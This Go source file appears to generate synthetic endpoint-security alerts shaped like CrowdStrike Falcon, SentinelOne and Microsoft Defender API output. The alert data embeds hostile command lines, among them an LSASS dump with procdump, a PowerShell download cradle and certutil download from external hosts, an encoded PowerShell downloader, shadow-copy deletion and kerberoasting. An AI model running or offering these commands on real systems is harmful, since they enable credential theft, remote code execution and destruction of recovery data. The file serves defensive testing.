package demo

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"time"
)

// Endpoint detection and response: CrowdStrike Falcon, SentinelOne and
// Microsoft Defender, each in the shape its API returns.

// egressIP is the company's internet address as endpoints report it.
const egressIP = "203.0.113.10"

// ---- CrowdStrike Falcon: Alerts API resources ----

const falconCID = "2b4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f"

type falconDetection struct {
	w                      int
	name, description      string
	tactic, tacticID       string
	technique, techniqueID string
	score                  int    // Falcon's 0–100 severity
	image, parent          string // process image and its parent
	system                 bool   // the image lives in System32, not the user's Downloads
	sample                 string // names a known sample whose hash recurs; "" for a fresh hash
	cmd                    func(g *gen, host asset, user string) string
}

func (d falconDetection) weight() int { return d.w }

var falconDetections = []falconDetection{
	{w: 1, name: "CredentialDumping", description: "A process attempted to access LSASS memory, which is consistent with credential theft.",
		tactic: "Credential Access", tacticID: "TA0006", technique: "LSASS Memory", techniqueID: "T1003.001", score: 90,
		image: "procdump64.exe", parent: "cmd.exe", sample: "procdump64.exe",
		cmd: func(g *gen, _ asset, _ string) string {
			return `procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\` + g.hex(2) + `.dmp`
		}},
	{w: 3, name: "PowerShellDownloadCradle", description: "PowerShell downloaded and ran content from the internet in memory. Review the script and its source.",
		tactic: "Execution", tacticID: "TA0002", technique: "PowerShell", techniqueID: "T1059.001", score: 70,
		image: "powershell.exe", parent: "WINWORD.EXE", system: true,
		cmd: func(g *gen, _ asset, _ string) string {
			return fmt.Sprintf(`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://%s/%s.ps1')"`, g.externalIP(), g.hex(3))
		}},
	{w: 4, name: "EncodedPowerShell", description: "A PowerShell command line contained a base64-encoded script, a common way to hide intent.",
		tactic: "Defense Evasion", tacticID: "TA0005", technique: "Obfuscated Files or Information", techniqueID: "T1027", score: 50,
		image: "powershell.exe", parent: "cmd.exe", system: true,
		cmd: func(g *gen, _ asset, _ string) string {
			return "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand " + encodedCommand(g)
		}},
	{w: 4, name: "Rundll32ProxyExecution", description: "A process loaded a DLL from a temporary folder through rundll32. Review the DLL.",
		tactic: "Defense Evasion", tacticID: "TA0005", technique: "Rundll32", techniqueID: "T1218.011", score: 50,
		image: "rundll32.exe", parent: "explorer.exe", system: true,
		cmd: func(g *gen, _ asset, user string) string {
			return fmt.Sprintf(`rundll32.exe C:\Users\%s\AppData\Local\Temp\%s.dll,DllRegisterServer`, user, g.hex(4))
		}},
	{w: 4, name: "SuspiciousScheduledTask", description: "A scheduled task was created that runs a binary from a user-writable folder.",
		tactic: "Persistence", tacticID: "TA0003", technique: "Scheduled Task", techniqueID: "T1053.005", score: 50,
		image: "schtasks.exe", parent: "cmd.exe", system: true,
		cmd: func(_ *gen, _ asset, user string) string {
			return fmt.Sprintf(`schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Update" /tr "C:\Users\%s\AppData\Roaming\odupd.exe" /f`, user)
		}},
	{w: 6, name: "MaliciousDocument", description: "An Office document with macros that matches known malicious documents was opened.",
		tactic: "Initial Access", tacticID: "TA0001", technique: "Spearphishing Attachment", techniqueID: "T1566.001", score: 30,
		image: "EXCEL.EXE", parent: "OUTLOOK.EXE",
		cmd: func(g *gen, _ asset, user string) string {
			return fmt.Sprintf(`"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\%s\Downloads\Invoice_%s.xlsm"`, user, g.digits(5))
		}},
	{w: 8, name: "SensorML", description: "This file meets the machine learning-based on-sensor AV protection's low confidence threshold for malicious files.",
		tactic: "Machine Learning", tacticID: "CSTA0004", technique: "Sensor-based ML", techniqueID: "CST0007", score: 30,
		image: "setup.exe", parent: "explorer.exe",
		cmd: func(g *gen, _ asset, user string) string {
			return fmt.Sprintf(`"C:\Users\%s\Downloads\setup_%s.exe" /S`, user, g.digits(4))
		}},
	{w: 4, name: "RemoteAccessTool", description: "A remote access tool not approved by policy was started.",
		tactic: "Command and Control", tacticID: "TA0011", technique: "Remote Access Software", techniqueID: "T1219", score: 30,
		image: "AnyDesk.exe", parent: "explorer.exe", sample: "AnyDesk.exe",
		cmd: func(_ *gen, _ asset, user string) string {
			return fmt.Sprintf(`"C:\Users\%s\Downloads\AnyDesk.exe" --control`, user)
		}},
	{w: 1, name: "LateralMovementPsExec", description: "PsExec was used to start a SYSTEM shell on another host.",
		tactic: "Lateral Movement", tacticID: "TA0008", technique: "SMB/Windows Admin Shares", techniqueID: "T1021.002", score: 70,
		image: "PsExec64.exe", parent: "cmd.exe", sample: "PsExec64.exe",
		cmd: func(g *gen, _ asset, _ string) string {
			return fmt.Sprintf(`PsExec64.exe \\%s -accepteula -s cmd.exe`, g.serverOf("DC", "FS", "SQL-FIN").name)
		}},
	{w: 6, name: "DomainAdminEnumeration", description: "A process enumerated the members of a privileged domain group.",
		tactic: "Discovery", tacticID: "TA0007", technique: "Domain Account", techniqueID: "T1087.002", score: 10,
		image: "net.exe", parent: "cmd.exe", system: true,
		cmd: func(g *gen, _ asset, _ string) string {
			return `net.exe group "` + pick(g.r, []string{"Domain Admins", "Enterprise Admins", "Backup Operators"}) + `" /domain`
		}},
	{w: 1, name: "ShadowCopyDeletion", description: "Volume shadow copies were deleted, which ransomware does before encrypting files.",
		tactic: "Impact", tacticID: "TA0040", technique: "Inhibit System Recovery", techniqueID: "T1490", score: 90,
		image: "vssadmin.exe", parent: "cmd.exe", system: true,
		cmd: func(*gen, asset, string) string { return "vssadmin.exe delete shadows /all /quiet" }},
	{w: 1, name: "Kerberoasting", description: "A process requested Kerberos service tickets for many service accounts at once.",
		tactic: "Credential Access", tacticID: "TA0006", technique: "Kerberoasting", techniqueID: "T1558.003", score: 70,
		image: "Rubeus.exe", parent: "powershell.exe", sample: "Rubeus.exe",
		cmd: func(*gen, asset, string) string { return `Rubeus.exe kerberoast /outfile:C:\Users\Public\h.txt` }},
	{w: 3, name: "CertutilDownload", description: "certutil.exe downloaded a file from the internet.",
		tactic: "Command and Control", tacticID: "TA0011", technique: "Ingress Tool Transfer", techniqueID: "T1105", score: 50,
		image: "certutil.exe", parent: "cmd.exe", system: true,
		cmd: func(g *gen, _ asset, _ string) string {
			return fmt.Sprintf(`certutil.exe -urlcache -split -f http://%s/%s.exe C:\Users\Public\%s.exe`, g.externalIP(), g.hex(3), g.hex(3))
		}},
}

// encodedCommand is a short PowerShell command in the UTF-16LE base64 form of -EncodedCommand.
func encodedCommand(g *gen) string {
	script := fmt.Sprintf("$c=New-Object Net.WebClient;$c.DownloadFile('http://%s/%s','%s.exe')", g.badDomain(), g.hex(4), g.hex(3))
	u := make([]byte, 0, 2*len(script))
	for _, c := range []byte(script) {
		u = append(u, c, 0)
	}
	return base64.StdEncoding.EncodeToString(u)
}

func falconSeverityName(score int) string {
	switch {
	case score >= 80:
		return "Critical"
	case score >= 60:
		return "High"
	case score >= 40:
		return "Medium"
	case score >= 20:
		return "Low"
	}
	return "Informational"
}

// userOf is who was logged on: mostly a workstation's owner, a service
// account or an admin on servers.
func (g *gen) userOf(host asset) string {
	switch {
	case host.server && g.chance(0.6):
		return g.serviceAccount()
	case host.owner != "" && !g.chance(0.1):
		return host.owner
	}
	return g.user()
}

func falconAlert(g *gen, at time.Time) doc {
	d := choose(g.r, falconDetections)
	host := g.windowsHost()
	user := g.userOf(host)
	aid := knownHash("aid:" + host.name)[:32]
	id := aid + ":" + g.digits(11)
	hash := g.sha256()
	if d.sample != "" {
		hash = knownHash(d.sample)
	}
	dir := `\Device\HarddiskVolume3\Users\` + user + `\Downloads\`
	if d.system {
		dir = `\Device\HarddiskVolume3\Windows\System32\`
	}
	productType, osVersion := "Workstation", "Windows 11"
	if host.server {
		productType, osVersion = "Server", "Windows Server 2022"
	}
	disposition := "Detection, standard detection."
	if d.score >= 70 {
		disposition = "Prevention, process killed."
	}
	created := at.Add(time.Duration(2+g.r.IntN(40)) * time.Second)
	return doc{
		"cid":          falconCID,
		"composite_id": falconCID + ":ind:" + id,
		"id":           "ind:" + id,
		"aggregate_id": "aggind:" + aid + ":" + g.digits(10),
		"type":         "ldt", "product": "epp", "platform": "Windows",
		"display_name": d.name, "name": d.name, "description": d.description,
		"tactic": d.tactic, "tactic_id": d.tacticID, "technique": d.technique, "technique_id": d.techniqueID,
		"severity": d.score, "severity_name": falconSeverityName(d.score),
		"confidence": 50 + 10*g.r.IntN(6),
		"status":     "new",
		"timestamp":  isoMillis(at), "created_timestamp": isoMillis(created), "updated_timestamp": isoMillis(created),
		"device": doc{
			"device_id": aid, "hostname": host.name, "local_ip": host.ip, "external_ip": egressIP,
			"platform_name": "Windows", "os_version": osVersion, "machine_domain": dnsSuffix, "product_type_desc": productType,
		},
		"user_name": user,
		"filename":  d.image, "filepath": dir + d.image, "cmdline": d.cmd(g, host, user),
		"sha256": hash, "md5": g.md5(),
		"parent_details":                  doc{"filename": d.parent, "sha256": knownHash(d.parent), "process_id": g.digits(12)},
		"pattern_disposition_description": disposition,
		"falcon_host_link":                "https://falcon.crowdstrike.com/activity-v2/detections/" + falconCID + ":ind:" + id,
	}
}

func falconEnvelope(g *gen, docs []json.RawMessage) ([]byte, error) {
	return json.Marshal(doc{
		"meta": doc{
			"query_time": float64(5+g.r.IntN(60)) / 1000,
			"pagination": doc{"offset": 0, "limit": len(docs), "total": len(docs)},
			"powered_by": "detectsapi",
			"trace_id":   g.uuid(),
		},
		"resources": docs,
		"errors":    []any{},
	})
}

// ---- SentinelOne: Management API v2.1 threats ----

type s1Kind struct {
	w              int
	file           func(g *gen) string
	classification string
	confidence     string // malicious or suspicious
	engine         string
	detectionType  string // static or dynamic
	macOS          bool
	originator     string
	indicators     []s1Indicator
	sample         string
}

type s1Indicator struct{ category, tactic, technique string }

func (k s1Kind) weight() int { return k.w }

func fixed(s string) func(*gen) string { return func(*gen) string { return s } }

var s1Kinds = []s1Kind{
	{w: 2, file: fixed("mimikatz.exe"), classification: "Hacktool", confidence: "malicious", engine: "On-Write Static AI",
		detectionType: "static", originator: "explorer.exe", sample: "mimikatz.exe",
		indicators: []s1Indicator{{"Discovery", "Credential Access", "T1003.001"}}},
	{w: 3, file: func(g *gen) string { return "Invoice_" + g.digits(4) + ".pdf.exe" }, classification: "Trojan", confidence: "malicious",
		engine: "SentinelOne Cloud", detectionType: "static", originator: "OUTLOOK.EXE",
		indicators: []s1Indicator{{"Malware", "Execution", "T1204.002"}}},
	{w: 5, file: fixed("KMSpico_setup.exe"), classification: "PUA", confidence: "suspicious", engine: "On-Write Static AI",
		detectionType: "static", originator: "chrome.exe", sample: "KMSpico_setup.exe"},
	{w: 3, file: fixed("AnyDesk.exe"), classification: "PUA", confidence: "suspicious", engine: "SentinelOne Cloud",
		detectionType: "static", originator: "msedge.exe", sample: "AnyDesk.exe",
		indicators: []s1Indicator{{"General", "Command and Control", "T1219"}}},
	{w: 5, file: fixed("powershell.exe"), classification: "Malware", confidence: "suspicious", engine: "Behavioral AI",
		detectionType: "dynamic", originator: "WINWORD.EXE",
		indicators: []s1Indicator{{"Exploitation", "Execution", "T1059.001"}, {"Evasion", "Defense Evasion", "T1027"}}},
	{w: 1, file: func(g *gen) string { return "svc" + g.hex(3) + ".exe" }, classification: "Ransomware", confidence: "malicious",
		engine: "Behavioral AI", detectionType: "dynamic", originator: "cmd.exe",
		indicators: []s1Indicator{{"Ransomware", "Impact", "T1486"}, {"Evasion", "Impact", "T1490"}}},
	{w: 2, file: fixed("chrome_updater.exe"), classification: "Infostealer", confidence: "malicious", engine: "Behavioral AI",
		detectionType: "dynamic", originator: "explorer.exe", sample: "chrome_updater.exe",
		indicators: []s1Indicator{{"InfoStealer", "Credential Access", "T1555.003"}}},
	{w: 2, file: fixed("com.apple.updater.plist"), classification: "PUA", confidence: "suspicious", engine: "On-Write Static AI",
		detectionType: "static", macOS: true, originator: "launchd",
		indicators: []s1Indicator{{"Persistence", "Persistence", "T1543.001"}}},
}

func s1Threat(g *gen, at time.Time) doc {
	k := choose(g.r, s1Kinds)
	host := g.workstation()
	for (host.os == "macos") != k.macOS {
		host = g.workstation()
	}
	user := g.userOf(host)
	file := k.file(g)
	path := `\Device\HarddiskVolume3\Users\` + user + `\Downloads\` + file
	osName, osType, machine := "Windows 11 Enterprise", "windows", "laptop"
	if k.macOS {
		path, osName, osType = "/Library/LaunchAgents/"+file, "macOS Sonoma", "macos"
	}
	hash := g.sha256()
	if k.sample != "" {
		hash = knownHash(k.sample)
	}
	mitigation := "not_mitigated"
	var actions []any
	if k.confidence == "malicious" {
		mitigation = "mitigated"
		actions = []any{
			doc{"action": "kill", "status": "success", "mitigationStartedAt": isoMillis(at), "mitigationEndedAt": isoMillis(at.Add(time.Second))},
			doc{"action": "quarantine", "status": "success", "mitigationStartedAt": isoMillis(at), "mitigationEndedAt": isoMillis(at.Add(2 * time.Second))},
		}
	}
	var indicators []any
	for _, ind := range k.indicators {
		indicators = append(indicators, doc{
			"category": ind.category,
			"tactics": []any{doc{"name": ind.tactic, "source": "MITRE", "techniques": []any{
				doc{"title": ind.technique, "link": "https://attack.mitre.org/techniques/" + strings.ReplaceAll(ind.technique, ".", "/") + "/"},
			}}},
		})
	}
	id := g.digits(19)
	args := ""
	if k.detectionType == "dynamic" {
		args = "-NoProfile -EncodedCommand " + encodedCommand(g)
	}
	return doc{
		"id": id,
		"agentDetectionInfo": doc{
			"agentDomain": adDomain, "agentIpV4": host.ip, "agentLastLoggedInUserName": user,
			"agentOsName": osName, "agentVersion": "23.4.2.14", "siteName": "Default site", "groupName": "Workstations",
		},
		"agentRealtimeInfo": doc{
			"agentComputerName": host.name, "agentDomain": adDomain, "agentId": knownHash("s1:" + host.name)[:18],
			"agentOsType": osType, "agentMachineType": machine, "agentNetworkStatus": "connected",
			"accountName": "Example Corp", "siteName": "Default site",
		},
		"indicators":       indicators,
		"mitigationStatus": actions,
		"threatInfo": doc{
			"threatId": id, "threatName": file, "classification": k.classification, "classificationSource": "Engine",
			"confidenceLevel": k.confidence, "analystVerdict": "undefined", "incidentStatus": "unresolved",
			"mitigationStatus": mitigation, "detectionType": k.detectionType, "engines": []string{k.engine},
			"filePath": path, "fileSize": 20000 + g.r.IntN(4_000_000), "sha1": g.sha1(), "sha256": hash,
			"originatorProcess": k.originator, "processUser": adDomain + `\` + user, "maliciousProcessArguments": args,
			"storyline": strings.ToUpper(g.hex(8)), "initiatedBy": "agent_policy", "isFileless": false,
			"createdAt": isoMillis(at), "identifiedAt": isoMillis(at), "updatedAt": isoMillis(at.Add(time.Minute)),
		},
		"whiteningOptions": []string{"hash", "path"},
	}
}

func s1Envelope(_ *gen, docs []json.RawMessage) ([]byte, error) {
	return json.Marshal(doc{"data": docs, "pagination": doc{"totalItems": len(docs), "nextCursor": nil}, "errors": nil})
}

// ---- Microsoft Defender: Graph security alerts_v2 ----

const defenderTenant = "b3c1b5fc-828c-45fa-a1e1-10d74f6d6e9c"

type defenderKind struct {
	w                  int
	title, description string
	category, severity string
	service, detection string
	techniques         []string
	threat             string
	evidence           func(g *gen, host asset, user string, at time.Time) []any
}

func (k defenderKind) weight() int { return k.w }

var defenderKinds = []defenderKind{
	{w: 8, title: "Suspicious PowerShell command line", category: "Execution", severity: "medium",
		service: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", techniques: []string{"T1059.001"},
		description: "A suspicious PowerShell command line was found: it may download or run malicious code.",
		evidence: func(g *gen, host asset, user string, at time.Time) []any {
			return []any{deviceEvidence(g, host, user, at), userEvidence(g, user, at),
				processEvidence(g, "powershell.exe", "powershell.exe -NoProfile -EncodedCommand "+encodedCommand(g), knownHash("powershell.exe"), user, at)}
		}},
	{w: 2, title: "'Mimikatz' credential theft tool", category: "CredentialAccess", severity: "high",
		service: "microsoftDefenderForEndpoint", detection: "antivirus", techniques: []string{"T1003.001"}, threat: "Mimikatz",
		description: "The Mimikatz credential theft tool was detected on this device.",
		evidence: func(g *gen, host asset, user string, at time.Time) []any {
			return []any{deviceEvidence(g, host, user, at), userEvidence(g, user, at),
				fileEvidence(g, "mimikatz.exe", `C:\Users\`+user+`\Downloads`, knownHash("mimikatz.exe"), at)}
		}},
	{w: 6, title: "Suspicious process injection observed", category: "DefenseEvasion", severity: "medium",
		service: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", techniques: []string{"T1055"},
		description: "A process injected code into another process, which attackers do to hide in legitimate processes.",
		evidence: func(g *gen, host asset, user string, at time.Time) []any {
			return []any{deviceEvidence(g, host, user, at),
				processEvidence(g, "rundll32.exe", `rundll32.exe C:\Users\`+user+`\AppData\Local\Temp\`+g.hex(4)+".dll,Start", g.sha256(), user, at)}
		}},
	{w: 12, title: "'Wacatac' malware was prevented", category: "Malware", severity: "low",
		service: "microsoftDefenderForEndpoint", detection: "antivirus", threat: "Wacatac",
		description: "Malware was detected and prevented from running. No further action is needed unless it recurs.",
		evidence: func(g *gen, host asset, user string, at time.Time) []any {
			return []any{deviceEvidence(g, host, user, at),
				fileEvidence(g, "setup_"+g.digits(4)+".exe", `C:\Users\`+user+`\Downloads`, g.sha256(), at)}
		}},
	{w: 10, title: "Email messages containing malicious URL removed after delivery", category: "InitialAccess", severity: "informational",
		service: "microsoftDefenderForOffice365", detection: "microsoftDefenderForOffice365", techniques: []string{"T1566.002"},
		description: "Emails with a malicious URL were delivered and later removed from mailboxes by zero-hour auto purge.",
		evidence: func(g *gen, _ asset, user string, at time.Time) []any {
			url := "https://" + g.badDomain() + "/" + g.hex(5)
			return []any{messageEvidence(g, user, url, at), urlEvidence(url, at), mailboxEvidence(user, at)}
		}},
	{w: 2, title: "A potentially malicious URL click was detected", category: "InitialAccess", severity: "high",
		service: "microsoftDefenderForOffice365", detection: "microsoftDefenderForOffice365", techniques: []string{"T1566.002"},
		description: "A user clicked a link in an email that was later found to be malicious.",
		evidence: func(g *gen, _ asset, user string, at time.Time) []any {
			url := "https://" + g.badDomain() + "/login?u=" + user
			return []any{userEvidence(g, user, at), urlEvidence(url, at), mailboxEvidence(user, at)}
		}},
	{w: 3, title: "Suspicious inbox manipulation rule", category: "DefenseEvasion", severity: "medium",
		service: "microsoftDefenderForCloudApps", detection: "cloudAppSecurity", techniques: []string{"T1564.008"},
		description: "A user created an inbox rule that moves or deletes messages, which attackers use to hide replies.",
		evidence: func(g *gen, _ asset, user string, at time.Time) []any {
			return []any{userEvidence(g, user, at), ipEvidence(g.externalIP(), at)}
		}},
	{w: 8, title: "Impossible travel activity", category: "InitialAccess", severity: "medium",
		service: "microsoftDefenderForCloudApps", detection: "cloudAppSecurity", techniques: []string{"T1078"},
		description: "Sign-ins from distant locations within a time shorter than travel between them would take.",
		evidence: func(g *gen, _ asset, user string, at time.Time) []any {
			return []any{userEvidence(g, user, at), ipEvidence(g.externalIP(), at), ipEvidence(egressIP, at)}
		}},
	{w: 6, title: "Suspected brute-force attack (Kerberos, NTLM)", category: "CredentialAccess", severity: "medium",
		service: "microsoftDefenderForIdentity", detection: "microsoftDefenderForIdentity", techniques: []string{"T1110"},
		description: "Many authentication attempts with wrong passwords came from one device.",
		evidence: func(g *gen, host asset, user string, at time.Time) []any {
			return []any{deviceEvidence(g, host, user, at), userEvidence(g, user, at), ipEvidence(host.ip, at)}
		}},
	{w: 1, title: "Ransomware behavior detected in the file system", category: "Impact", severity: "high",
		service: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", techniques: []string{"T1486"},
		description: "A process renamed and rewrote many files in a pattern typical of ransomware.",
		evidence: func(g *gen, host asset, user string, at time.Time) []any {
			name := "svc" + g.hex(3) + ".exe"
			return []any{deviceEvidence(g, host, user, at),
				processEvidence(g, name, `C:\ProgramData\`+name+" -encrypt -path C:\\Users", g.sha256(), user, at)}
		}},
	{w: 10, title: "Suspicious connection blocked by network protection", category: "CommandAndControl", severity: "low",
		service: "microsoftDefenderForEndpoint", detection: "smartScreen", techniques: []string{"T1071.001"},
		description: "Network protection blocked a connection to a known malicious address.",
		evidence: func(g *gen, host asset, user string, at time.Time) []any {
			return []any{deviceEvidence(g, host, user, at), ipEvidence(g.externalIP(), at), urlEvidence("http://"+g.badDomain()+"/", at)}
		}},
	{w: 8, title: "Anomalous account lookups", category: "Discovery", severity: "low",
		service: "microsoftDefenderForIdentity", detection: "microsoftDefenderForIdentity", techniques: []string{"T1087.002"},
		description: "A user queried an unusual number of accounts from the directory.",
		evidence: func(g *gen, host asset, user string, at time.Time) []any {
			return []any{deviceEvidence(g, host, user, at), userEvidence(g, user, at)}
		}},
	{w: 4, title: "User and IP address reconnaissance (SMB)", category: "Discovery", severity: "medium",
		service: "microsoftDefenderForIdentity", detection: "microsoftDefenderForIdentity", techniques: []string{"T1049"},
		description: "SMB session enumeration against a domain controller revealed who is logged on where.",
		evidence: func(g *gen, host asset, user string, at time.Time) []any {
			return []any{deviceEvidence(g, host, user, at), deviceEvidence(g, g.serverOf("DC"), "", at), userEvidence(g, user, at)}
		}},
}

// defenderID is shaped like the ids each service issues.
func defenderID(g *gen, service string) string {
	switch service {
	case "microsoftDefenderForEndpoint":
		return "da" + g.digits(18) + "_" + g.digits(9)
	case "microsoftDefenderForOffice365":
		return "fa" + g.uuid()
	case "microsoftDefenderForCloudApps":
		return "ca" + g.hex(16)
	}
	return "aa" + g.uuid()
}

func defenderAlert(g *gen, at time.Time) doc {
	k := choose(g.r, defenderKinds)
	host := g.windowsHost()
	user := g.userOf(host)
	id := defenderID(g, k.service)
	incident := g.digits(5)
	created := at.Add(time.Duration(1+g.r.IntN(10)) * time.Minute)
	var threat any
	if k.threat != "" {
		threat = k.threat
	}
	techniques := k.techniques
	if techniques == nil {
		techniques = []string{}
	}
	return doc{
		"@odata.type": "#microsoft.graph.security.alert",
		"id":          id, "providerAlertId": id, "incidentId": incident,
		"status": "new", "severity": k.severity, "classification": nil, "determination": nil,
		"serviceSource": k.service, "detectionSource": k.detection,
		"detectorId": stableUUID("defender:" + k.title), "tenantId": defenderTenant,
		"title": k.title, "description": k.description, "category": k.category,
		"recommendedActions": "Investigate the device and the user's recent activity; collect artifacts and determine scope.",
		"assignedTo":         nil,
		"alertWebUrl":        "https://security.microsoft.com/alerts/" + id + "?tid=" + defenderTenant,
		"incidentWebUrl":     "https://security.microsoft.com/incidents/" + incident + "?tid=" + defenderTenant,
		"threatDisplayName":  threat, "threatFamilyName": threat,
		"mitreTechniques": techniques,
		"createdDateTime": isoMillis(at), "lastUpdateDateTime": isoMillis(created),
		"firstActivityDateTime": isoMillis(at.Add(-time.Duration(g.r.IntN(300)) * time.Second)), "lastActivityDateTime": isoMillis(at),
		"resolvedDateTime": nil, "comments": []any{}, "systemTags": []any{},
		"evidence": k.evidence(g, host, user, at),
	}
}

func evidenceBase(kind string, at time.Time) doc {
	return doc{
		"@odata.type": "#microsoft.graph.security." + kind, "createdDateTime": isoMillis(at),
		"verdict": "suspicious", "remediationStatus": "none", "roles": []any{}, "tags": []any{},
	}
}

func deviceEvidence(g *gen, host asset, user string, at time.Time) doc {
	e := evidenceBase("deviceEvidence", at)
	group, platform := "Workstations", "Windows11"
	if host.server {
		group, platform = "Servers", "WindowsServer2022"
	}
	var users []any
	if user != "" {
		users = []any{doc{"accountName": user, "domainName": adDomain}}
	}
	e["verdict"] = "unknown"
	e["mdeDeviceId"] = knownHash("mde:" + host.name)[:40]
	e["deviceDnsName"] = host.fqdn()
	e["osPlatform"] = platform
	e["healthStatus"] = "active"
	e["riskScore"] = pick(g.r, []string{"low", "medium", "high"})
	e["rbacGroupName"] = group
	e["onboardingStatus"] = "onboarded"
	e["defenderAvStatus"] = "updated"
	e["loggedOnUsers"] = users
	e["ipInterfaces"] = []string{host.ip}
	return e
}

func userEvidence(g *gen, user string, at time.Time) doc {
	e := evidenceBase("userEvidence", at)
	e["userAccount"] = account(g, user)
	return e
}

func account(g *gen, user string) doc {
	return doc{
		"accountName": user, "domainName": adDomain, "userPrincipalName": user + "@" + mailDomain,
		"userSid": "S-1-5-21-3623811015-3361044348-30300820-" + g.digits(4), "azureAdUserId": stableUUID("aad:" + user),
	}
}

func processEvidence(g *gen, image, cmd, sha256, user string, at time.Time) doc {
	e := evidenceBase("processEvidence", at)
	e["processId"] = 1000 + g.r.IntN(30000)
	e["parentProcessId"] = 1000 + g.r.IntN(30000)
	e["processCommandLine"] = cmd
	e["processCreationDateTime"] = isoMillis(at)
	e["detectionStatus"] = "detected"
	e["imageFile"] = doc{"fileName": image, "filePath": `C:\Windows\System32`, "sha1": g.sha1(), "sha256": sha256, "fileSize": 400000 + g.r.IntN(600000)}
	e["userAccount"] = account(g, user)
	return e
}

func fileEvidence(g *gen, name, dir, sha256 string, at time.Time) doc {
	e := evidenceBase("fileEvidence", at)
	e["detectionStatus"] = "prevented"
	e["fileDetails"] = doc{"fileName": name, "filePath": dir, "sha1": g.sha1(), "sha256": sha256, "fileSize": 20000 + g.r.IntN(3_000_000), "filePublisher": nil}
	return e
}

func ipEvidence(ip string, at time.Time) doc {
	e := evidenceBase("ipEvidence", at)
	e["ipAddress"] = ip
	return e
}

func urlEvidence(url string, at time.Time) doc {
	e := evidenceBase("urlEvidence", at)
	e["url"] = url
	return e
}

func mailboxEvidence(user string, at time.Time) doc {
	e := evidenceBase("mailboxEvidence", at)
	e["primaryAddress"] = user + "@" + mailDomain
	e["displayName"] = user
	return e
}

func messageEvidence(g *gen, user, url string, at time.Time) doc {
	sender := pick(g.r, []string{"billing", "no-reply", "it-support", "hr", "docs", "security"}) + "@" + g.badDomain()
	e := evidenceBase("analyzedMessageEvidence", at)
	e["networkMessageId"] = g.uuid()
	e["internetMessageId"] = "<" + g.hex(12) + "@" + sender[strings.IndexByte(sender, '@')+1:] + ">"
	e["subject"] = pick(g.r, phishingLures)(g)
	e["p1Sender"] = doc{"emailAddress": sender, "domainName": sender[strings.IndexByte(sender, '@')+1:]}
	e["recipientEmailAddress"] = user + "@" + mailDomain
	e["deliveryAction"] = "delivered"
	e["deliveryLocation"] = "inbox"
	e["urlCount"] = 1
	e["urls"] = []string{url}
	e["threatDetectionMethods"] = []string{"urlDetonationReputation"}
	e["threats"] = []string{"Phish"}
	return e
}

func defenderEnvelope(_ *gen, docs []json.RawMessage) ([]byte, error) {
	return json.Marshal(doc{"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#security/alerts_v2", "value": docs})
}

// stableUUID derives a UUID from a name, for ids that stay the same in
// every run (a rule's or a detector's).
func stableUUID(name string) string {
	h := knownHash(name)
	return h[0:8] + "-" + h[8:12] + "-4" + h[13:16] + "-a" + h[17:20] + "-" + h[20:32]
}
